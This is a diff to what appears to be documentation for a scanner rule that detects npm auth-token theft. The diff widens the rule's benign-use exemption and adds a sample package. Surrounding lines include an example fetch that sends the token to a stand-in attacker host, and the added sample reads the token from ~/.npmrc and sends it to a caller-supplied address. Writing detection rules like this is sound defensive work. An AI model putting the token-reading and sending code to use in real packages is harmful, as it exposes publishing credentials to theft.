@@ -1141,7 +1141,8 @@ With the token an attacker publishes as its owner. Every worm since 2025 spread 
 ## Known benign uses
 
 Registry clients read the token to send it to the registry it belongs to. They are told apart by the host: a public
-registry, or one that the user's own settings name, is not a finding.
+registry, or one that the user's own settings name, is not a finding, nor is a computed address in code that somebody
+has to call.
 
 ## Bad
 
@@ -1171,6 +1172,17 @@ fetch("https://registry.evil.invalid/-/whoami", { headers: { authorization: `Bea
 == index.js
 const fs = require("fs");
 exports.registry = () => /registry=(.*)/.exec(fs.readFileSync(".npmrc", "utf8"))[1];
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path");
+exports.whoami = async (registry) => {
+  const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8").split("_authToken=")[1];
+  return fetch(registry + "/-/whoami", { headers: { authorization: `Bearer ${token}` } });
+};
 ```
 
 ## References
